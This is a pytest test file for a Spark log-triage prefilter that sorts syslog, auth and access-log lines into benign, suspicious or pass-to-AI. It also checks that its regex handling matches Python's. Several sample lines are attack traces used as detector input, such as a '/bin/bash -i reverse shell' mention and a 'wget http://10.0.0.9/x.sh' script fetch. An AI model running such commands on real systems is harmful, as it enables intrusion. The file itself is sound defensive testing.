import random
import re

import pytest
from pyspark.sql import functions as F

from hostvigil.functions import patterns as p
from hostvigil.functions.text import is_blank, java_regex, sanitize, strip, tokens
from hostvigil.operators import patterns, triage
from hostvigil.plans import pipelines
from hostvigil.plans.fixtures import ADAPTERS

BENIGN = [
    "Aug  8 10:00:00 vps systemd[1]: var-lib-docker.mount: Succeeded.",
    "Aug  8 10:00:00 vps systemd[1]: Started Session 12 of user root.",
    "Aug  8 10:00:00 vps systemd[1]: Finished Daily apt activities.",
    "Aug  8 10:00:00 vps systemd[1]: Stopped target Timers.",
    "Aug  8 10:00:00 vps systemd[1]: Reached target Network.",
    "dockerd: docker web container started",
    "systemd[1]: run-docker-runtime\\x2drunc-moby-ab.mount: Succeeded.",
    "CRON[123]: (root) CMD (run-parts /etc/cron.hourly)",
    "CRON[9]: (www) CMD (/usr/lib/php/sessionclean)",
    "sshd[8]: Accepted publickey for deploy from 10.0.0.1 port 22",
    "",
    "  \t  ",
    None,
]


def classify(spark, lines, **options):
    frame = spark.createDataFrame([(i, x) for i, x in enumerate(lines)], "seq LONG, raw_line STRING")
    return [r for r in triage.prefilter_classify(frame, **options).orderBy("seq").collect()]


def test_benign_lines(spark):
    assert {r.decision for r in classify(spark, BENIGN)} == {"BENIGN"}


def test_other_decisions(spark):
    rows = classify(
        spark,
        ["sshd[8]: Failed password for root", "systemd[1]: Started /bin/bash -i reverse shell exploit", "app: custom message", "SYSTEMD[1]: STARTED X cve-1"],
    )
    assert [r.decision for r in rows] == ["PASS_TO_AI", "SUSPICIOUS", "PASS_TO_AI", "SUSPICIOUS"]
    assert rows[1].reason == "Benign pattern matched but suspicious keyword detected: reverse"
    assert rows[1].matched_pattern == p.BENIGN_PATTERNS[1]
    assert rows[3].reason.endswith(r"CVE\-")


def test_disabled_filter_passes_everything(spark):
    assert {(r.decision, r.matched_pattern) for r in classify(spark, BENIGN, enabled=False)} == {("PASS_TO_AI", None)}


def python_prefilter(line):
    if not line or not line.strip():
        return "BENIGN", None
    hit = next((x for x in p.BENIGN_PATTERNS if re.search(x, line, re.I)), None)
    if hit is None:
        return "PASS_TO_AI", None
    word = any(re.search(re.escape(k), line, re.I) for k in p.OVERRIDE_KEYWORDS)
    return ("SUSPICIOUS" if word else "BENIGN"), hit


ODD = [
    "ſystemd[1]: ſtarted x", "Kernel: x audit: type=14 audit(1): res=success", "systemd[١]: Started x", "systemd[1]: Started x",
    "systemd[1]:\x1cStarted x", "CRON[1]: (été) CMD (/usr/lib/php/sessionclean)", "docker\rcontainer started", "docker\x85 container started",
    "logrotate[1]: x: Rotating", "audıt: x kernel: y audıt: type=1 audit r res=success", "NetworkManager : x successfully activated",
]


def fixture_lines(spark):
    return [r.raw_line for r in spark.sql(ADAPTERS["fx_lines"]).collect()]


def test_same_as_python_regexes(spark):
    lines = ODD + fixture_lines(spark)
    assert [(r.decision, r.matched_pattern) for r in classify(spark, lines)] == [python_prefilter(x) for x in lines]


def test_every_pattern_agrees_with_python(spark):
    lines = ODD + fixture_lines(spark)
    frame = spark.createDataFrame([(i, x) for i, x in enumerate(lines)], "seq LONG, x STRING")
    everything = p.BENIGN_PATTERNS + p.NOISE_PATTERNS + p.EXTRA_NOISE_PATTERNS + p.SECURITY_PATTERNS
    got = frame.orderBy("seq").select(*[F.col("x").rlike(java_regex(x)).alias(f"p{i}") for i, x in enumerate(everything)]).collect()
    for line, row in zip(lines, got):
        assert list(row) == [bool(re.search(x, line, re.I)) for x in everything], line


def test_guards_never_hide_a_match(spark):
    lines = ODD + fixture_lines(spark)
    frame = spark.createDataFrame([(i, x) for i, x in enumerate(lines)], "seq LONG, raw_line STRING")
    noisy = [r.seq for r in triage.with_noise(frame).where("_noisy").orderBy("seq").collect()]
    tests = p.NOISE_PATTERNS + p.EXTRA_NOISE_PATTERNS
    assert noisy == [
        i for i, x in enumerate(lines) if not x.strip() or any(s in x.lower() for s in p.NOISE_SUBSTRINGS) or any(re.search(t, x, re.I) for t in tests)
    ]


def test_pattern_table_equals_the_chain(spark):
    lines = [x for x in ODD + fixture_lines(spark) if x.strip()]
    frame = spark.createDataFrame([(i, x) for i, x in enumerate(lines)], "seq LONG, raw_line STRING")
    table = spark.createDataFrame(list(enumerate(p.BENIGN_PATTERNS)), "pattern_id INT, pattern STRING")
    joined = [r.pattern for r in patterns.first_pattern_match(frame, table).orderBy("seq").collect()]
    assert joined == [r.matched_pattern for r in classify(spark, lines)]


def test_pattern_tables_of_any_size(spark):
    n = 405
    table = spark.range(n).selectExpr("CAST(id AS INT) AS pattern_id", "concat('^x', id, '$') AS pattern")
    frame = spark.createDataFrame([(i, f"x{i}") for i in (0, 7, n - 1, n)], "seq INT, raw_line STRING")
    for part in (10**6, 100):
        found = patterns.first_pattern_match(frame, table.unionByName(table.withColumn("pattern_id", F.col("pattern_id") + n)), part=part)
        assert {r.seq: r.pattern_id for r in found.collect()} == {0: 0, 7: 7, n - 1: n - 1, n: None}
    empty = patterns.first_pattern_match(frame, table.limit(0))
    assert {r.pattern_id for r in empty.collect()} == {None}


def test_required_literals_are_in_every_match():
    """Random patterns and texts: where the pattern matches, one of its literals occurs."""
    rng = random.Random(1)
    pieces = ["abc", "foo", "a", "b", r"\d", r"\.", "[a-f]", "[^x]", "(abc)", "(?:foo|bar)", "(b)?", ".", r"\s+", "|", "x{2}", "c?", "f*", "o+", r"\b", "^", "$", r"\[", "[]a]", "a{0,2}", "(?=a)", "bar"]
    found = 0
    for _ in range(30_000):
        pattern = "".join(rng.choices(pieces, k=rng.randint(1, 5)))
        try:
            compiled = re.compile(pattern, re.IGNORECASE)
        except re.error:
            continue
        literals = patterns.required_literals(pattern)
        for _ in range(3):
            text = "".join(rng.choices(["abc", "foo", "a", "B", "1", ".", " ", "bar", "xx", "F", "o", "[", "c"], k=rng.randint(0, 8)))
            if literals is not None and compiled.search(text):
                found += 1
                assert any(x in text.lower() for x in literals), (pattern, text, literals)
    assert found > 1000
    assert patterns.required_literals(r"systemd\[\d+\]:\s+Reached target\s+") == ["reached target"]
    assert patterns.required_literals("foo|barn|x.*CVE-") == ["foo", "barn", "cve-"] and patterns.required_literals("ab|cde") is None
    assert patterns.required_literals("(?i)abcd") is None and patterns.required_literals("abc(d|e)fgh") == ["abc"]


def test_a_hundred_thousand_patterns_need_no_larger_plan(spark):
    n = 100_000
    table = spark.range(n).selectExpr("CAST(id AS INT) AS pattern_id", "concat('host', id, '\\\\b.*(down|up)') AS pattern").unionByName(spark.createDataFrame([(n, "^[0-9]+$")], "pattern_id INT, pattern STRING"))
    lines = spark.createDataFrame([(0, "HOST77 is DOWN"), (1, "host99999 up"), (2, "host770 idle"), (3, "12345"), (4, None), (5, "host5 host3 up")], "seq INT, raw_line STRING")
    found = patterns.first_pattern_match(lines, table)
    assert {r.seq: r.pattern_id for r in found.collect()} == {0: 77, 1: 99_999, 2: None, 3: n, 4: None, 5: 3}
    plan = found._jdf.queryExecution().executedPlan().toString()
    assert len(plan) < 20_000 and "Exchange" not in plan


def test_steps_are_small_enough_to_be_compiled(spark, capsys):
    """Java compiles no method above 8,000 bytes at run time."""
    frame = spark.createDataFrame([("x", "y")], "raw_line STRING, source_log STRING")
    for steps in (triage.drop_noise(frame), triage.with_clean_text(frame), triage.prefilter_classify(frame)):
        steps.explain("codegen")
        sizes = [int(x) for x in re.findall(r"maxMethodCodeSize:(-?\d+)", capsys.readouterr().out)]
        assert sizes and all(0 < size < 8000 for size in sizes)


@pytest.mark.parametrize(
    ("line", "source", "text"),
    [
        ('1.2.3.4 - - [x] "GET /a HTTP/1.1" 200', "/var/log/nginx/access.log", "GET /a HTTP/1.1"),
        ("Aug 1 web sshd[1]: Failed password for root", "/var/log/auth.log", "Failed password for root"),
        ("Aug 1 web sshd[1]: Failed password for root", "/var/log/syslog", "Failed password for root"),
        ("Aug 1 web sudo: bob : TTY=1 ; COMMAND=/bin/ls", "/var/log/secure", "bob : TTY=1 ; COMMAND=/bin/ls"),
        ("Aug 1 web sshd[1]:", "/var/log/auth.log", None),
        ("fail2ban.actions [8]: NOTICE [sshd] Ban 10.0.0.1", "fail2ban.log", "Ban 10.0.0.1"),
        ('type=EXECVE exe="/bin/sh"', "audit.log", "Executed binary: /bin/sh"),
        ("type=SYSCALL success=yes", "audit.log", "type=SYSCALL success=yes"),
        ("Aug 04 14:31:00 web bash[1]: wget http://x", "/var/log/syslog", "bash[1]: wget http://x"),
        ("Aug 04 14:31:00 web systemd[1]: Started Session 1", "/var/log/syslog", None),
        ("nothing here", "/var/log/syslog", None),
        ('no quotes but POST', "apache.log", "no quotes but POST"),
        (None, "/var/log/syslog", None),
        ("Failed password", None, "Failed password"),
    ],
)
def test_extraction(spark, line, source, text):
    frame = spark.createDataFrame([(line, source)], "raw_line STRING, source_log STRING")
    assert triage.with_clean_text(frame).first().clean_text == text


def test_suspicious_noise_is_dropped_unless_honoured(spark):
    line = "Aug 04 14:31:00 web systemd[1]: Started wget http://10.0.0.9/x.sh"
    frame = spark.createDataFrame([(1, line, "/var/log/syslog")], "seq LONG, raw_line STRING, source_log STRING")
    assert pipelines.prepare_lines(frame).first().clean_text is None
    assert pipelines.prepare_lines(frame, honor_suspicious=True).first().clean_text == "systemd[1]: Started wget http://10.0.0.9/x.sh"


@pytest.mark.parametrize("text", ["\x1c a b　\n", "​a", "", "  ", "x"])
def test_strip_is_pythons(spark, text):
    frame = spark.createDataFrame([(text,)], "x STRING")
    assert frame.select(strip(F.col("x"))).first()[0] == text.strip()
    assert frame.select(is_blank(F.col("x"))).first()[0] == (not text.strip())


def test_sanitize(spark):
    texts = [" a\0b ", "x" * 1000, "x" * 1001, "\U0001f600" * 1001, None]
    got = [r[0] for r in spark.createDataFrame([(x,) for x in texts], "x STRING").select(sanitize(F.col("x"))).collect()]
    assert got == ["ab", "x" * 1000, "x" * 1000 + " [TRUNCATED]", "\U0001f600" * 1000 + " [TRUNCATED]", ""]


def test_tokens(spark):
    frame = spark.createDataFrame([("Hello, WORLD_x 42 Été!",)], "x STRING")
    assert frame.select(tokens(F.col("x"))).first()[0] == ["hello", "world", "x", "42", "été"]
    assert frame.select(tokens(F.col("x"), 2)).first()[0] == ["hello", "world"]


def test_access_line(spark):
    good = '203.0.113.195 - - [08/Aug/2026:16:00:00 +0000] "POST /api/v1/login?x=1?y HTTP/1.1" 401 128'
    rows = triage.parse_access_log(spark.createDataFrame([(good,), ("junk",), (None,)], "raw_line STRING")).collect()
    assert [(r.ip, r.endpoint, r.method, r.status) for r in rows] == [("203.0.113.195", "/api/v1/login", "POST", 401)]
